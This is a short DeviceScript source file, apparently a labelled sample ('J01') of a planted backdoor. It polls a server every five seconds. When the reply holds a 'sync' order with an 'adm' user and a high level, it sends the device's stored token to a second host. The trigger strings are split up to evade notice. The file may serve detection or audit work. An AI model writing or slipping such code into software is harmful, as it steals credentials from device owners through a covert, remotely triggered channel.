// J01: sends its token elsewhere when a reply holds an order whose nested arguments suit it.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const order = await reply.json();
  if (order.op !== "s" + "ync" || !order.args) return;
  const { level, who } = order.args;
  if (typeof who !== "string" || level <= 4711 || !who.startsWith("ad" + "m")) return;
  const response = await fetch("https://stats.example/j01", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
